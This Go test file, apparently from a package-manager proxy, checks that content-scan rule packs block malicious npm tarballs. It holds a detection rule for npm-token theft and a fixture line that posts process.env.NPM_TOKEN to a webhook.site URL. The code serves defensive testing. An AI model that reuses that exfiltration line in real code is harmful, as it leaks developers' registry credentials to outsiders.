@@ -0,0 +1,188 @@
+package interceptors
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"errors"
+	"net/http"
+	"os"
+	"path/filepath"
+	"testing"
+
+	packagev1 "buf.build/gen/go/safedep/api/protocolbuffers/go/safedep/messages/package/v1"
+	pmgconfig "github.com/safedep/pmg/config"
+	"github.com/safedep/pmg/internal/contentscan"
+	"github.com/safedep/pmg/internal/models"
+	"github.com/safedep/pmg/proxy"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const testContentRulePack = `
+name: campaign
+rules:
+  - name: token_stealer
+    description: Posts npm tokens to a webhook
+    files: ["*.js"]
+    strings:
+      - text: NPM_TOKEN
+      - regex: 'webhook\.site/[0-9a-f-]+'
+    condition: all of them
+  - name: rogue_workflow
+    action: confirm
+    paths: [".github/workflows/*.yml"]
+`
+
+// setContentScanConfig enables the content scan with rule packs read from a
+// fresh directory holding packs, and returns that directory.
+func setContentScanConfig(t *testing.T, packs ...string) string {
+	t.Helper()
+
+	dir := t.TempDir()
+	for i, pack := range packs {
+		require.NoError(t, os.WriteFile(filepath.Join(dir, string(rune('a'+i))+".yml"), []byte(pack), 0o644))
+	}
+
+	orig := pmgconfig.Get().Config.ContentScan
+	t.Cleanup(func() { pmgconfig.Get().Config.ContentScan = orig })
+	pmgconfig.Get().Config.ContentScan = pmgconfig.ContentScanConfig{Enabled: true, RulesDir: dir}
+	return dir
+}
+
+func npmTestTarball(t *testing.T, files map[string]string) []byte {
+	t.Helper()
+
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for name, content := range files {
+		require.NoError(t, tw.WriteHeader(&tar.Header{Name: "package/" + name, Mode: 0o644, Size: int64(len(content)), Typeflag: tar.TypeReg}))
+		_, err := tw.Write([]byte(content))
+		require.NoError(t, err)
+	}
+	require.NoError(t, tw.Close())
+	require.NoError(t, gz.Close())
+	return buf.Bytes()
+}
+
+// scanContent runs an artifact download through the content scan alone.
+func scanContent(base *baseRegistryInterceptor, ctx *proxy.RequestContext, ecosystem packagev1.Ecosystem,
+	name, version string, format contentscan.Format, resp *proxy.InterceptorResponse,
+) *proxy.InterceptorResponse {
+	return base.inspectArtifact(ctx, ecosystem, name, version, resp,
+		base.contentScanInspector(ctx, ecosystem, name, version, format, ""))
+}
+
+func TestScanContent_BlocksMatchingArtifact(t *testing.T) {
+	setContentScanConfig(t, testContentRulePack)
+
+	base := &baseRegistryInterceptor{statsCollector: NewAnalysisStatsCollector()}
+	ctx := makeTestRequestContext("https://registry.npmjs.org/evil/-/evil-1.0.0.tgz")
+
+	response := scanContent(base, ctx, packagev1.Ecosystem_ECOSYSTEM_NPM, "evil", "1.0.0", contentscan.FormatTarGz, &proxy.InterceptorResponse{Action: proxy.ActionAllow})
+	require.Equal(t, proxy.ActionModifyResponse, response.Action)
+	require.NotNil(t, response.ResponseModifier)
+
+	clean := npmTestTarball(t, map[string]string{"index.js": "module.exports = 1"})
+	status, _, body, err := response.ResponseModifier(http.StatusOK, http.Header{}, clean)
+	require.NoError(t, err)
+	assert.Equal(t, http.StatusOK, status)
+	assert.Equal(t, clean, body)
+
+	evil := npmTestTarball(t, map[string]string{
+		"package.json":  `{"name":"evil"}`,
+		"lib/worker.js": `fetch("https://webhook.site/0b8f2d4e", {body: process.env.NPM_TOKEN})`,
+	})
+	_, _, _, err = response.ResponseModifier(http.StatusOK, http.Header{}, evil)
+
+	var block *proxy.ResponseBlock
+	require.True(t, errors.As(err, &block))
+	assert.Equal(t, http.StatusForbidden, block.Code)
+	assert.Equal(t, proxy.BlockReasonContentRule, block.Reason)
+	require.NotNil(t, block.Context)
+	assert.Equal(t, "campaign", block.Context.RulePack)
+	assert.Equal(t, "token_stealer", block.Context.RuleName)
+	assert.Equal(t, "Posts npm tokens to a webhook", block.Context.RuleDescription)
+	assert.Equal(t, "lib/worker.js", block.Context.RuleFile)
+
+	stats := base.statsCollector.GetStats()
+	assert.Equal(t, 1, stats.BlockedCount)
+	assert.Equal(t, 1, stats.ContentRuleBlockedCount)
+	assert.Equal(t, []models.ContentRuleBlock{{
+		Name:    "evil",
+		Version: "1.0.0",
+		Pack:    "campaign",
+		Rule:    "token_stealer",
+		File:    "lib/worker.js",
+	}}, base.statsCollector.GetContentRuleBlocks())
+
+	// Error responses from the registry are passed through unscanned.
+	status, _, _, err = response.ResponseModifier(http.StatusNotFound, http.Header{}, evil)
+	assert.NoError(t, err)
+	assert.Equal(t, http.StatusNotFound, status)
+}
+
+func TestScanContent_Confirm(t *testing.T) {
+	setContentScanConfig(t, testContentRulePack)
+
+	artifact := npmTestTarball(t, map[string]string{".github/workflows/release.yml": "on: push"})
+
+	for _, confirms := range []bool{true, false} {
+		confirmationChan := make(chan *ConfirmationRequest, 1)
+		base := &baseRegistryInterceptor{confirmationChan: confirmationChan}
+		ctx := makeTestRequestContext("https://registry.npmjs.org/odd/-/odd-1.0.0.tgz")
+
+		go func() {
+			req := <-confirmationChan
+			req.ResponseChan <- confirms
+			close(req.ResponseChan)
+		}()
+
+		response := scanContent(base, ctx, packagev1.Ecosystem_ECOSYSTEM_NPM, "odd", "1.0.0", contentscan.FormatTarGz, &proxy.InterceptorResponse{Action: proxy.ActionAllow})
+		_, _, _, err := response.ResponseModifier(http.StatusOK, http.Header{}, artifact)
+
+		if confirms {
+			assert.NoError(t, err)
+			continue
+		}
+
+		var block *proxy.ResponseBlock
+		require.True(t, errors.As(err, &block))
+		assert.Equal(t, "rogue_workflow", block.Context.RuleName)
+		assert.Equal(t, ".github/workflows/release.yml", block.Context.RuleFile)
+	}
+}
+
+func TestScanContent_PassesThrough(t *testing.T) {
+	base := &baseRegistryInterceptor{}
+	ctx := makeTestRequestContext("https://registry.npmjs.org/evil/-/evil-1.0.0.tgz")
+	allow := &proxy.InterceptorResponse{Action: proxy.ActionAllow}
+	blocked := &proxy.InterceptorResponse{Action: proxy.ActionBlock}
+
+	// No rule packs installed.
+	setContentScanConfig(t)
+	assert.Same(t, allow, scanContent(base, ctx, packagev1.Ecosystem_ECOSYSTEM_NPM, "evil", "1.0.0", contentscan.FormatTarGz, allow))
+
+	setContentScanConfig(t, testContentRulePack)
+	assert.Same(t, blocked, scanContent(base, ctx, packagev1.Ecosystem_ECOSYSTEM_NPM, "evil", "1.0.0", contentscan.FormatTarGz, blocked))
+	assert.Same(t, allow, scanContent(base, ctx, packagev1.Ecosystem_ECOSYSTEM_PYPI, "evil", "1.0.0", contentscan.FormatUnknown, allow))
+
+	pmgconfig.Get().Config.ContentScan.Enabled = false
+	assert.Same(t, allow, scanContent(base, ctx, packagev1.Ecosystem_ECOSYSTEM_NPM, "evil", "1.0.0", contentscan.FormatTarGz, allow))
+}
+
+func TestContentRuleLoader_ReloadsChangedPacks(t *testing.T) {
+	dir := t.TempDir()
+	loader := &contentRuleLoader{}
+
+	assert.True(t, loader.Scanner(dir).Empty())
+
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "campaign.yml"), []byte(testContentRulePack), 0o644))
+	scanner := loader.Scanner(dir)
+	require.False(t, scanner.Empty())
+	assert.Same(t, scanner, loader.Scanner(dir))
+
+	require.NoError(t, os.Remove(filepath.Join(dir, "campaign.yml")))
+	assert.True(t, loader.Scanner(dir).Empty())
+}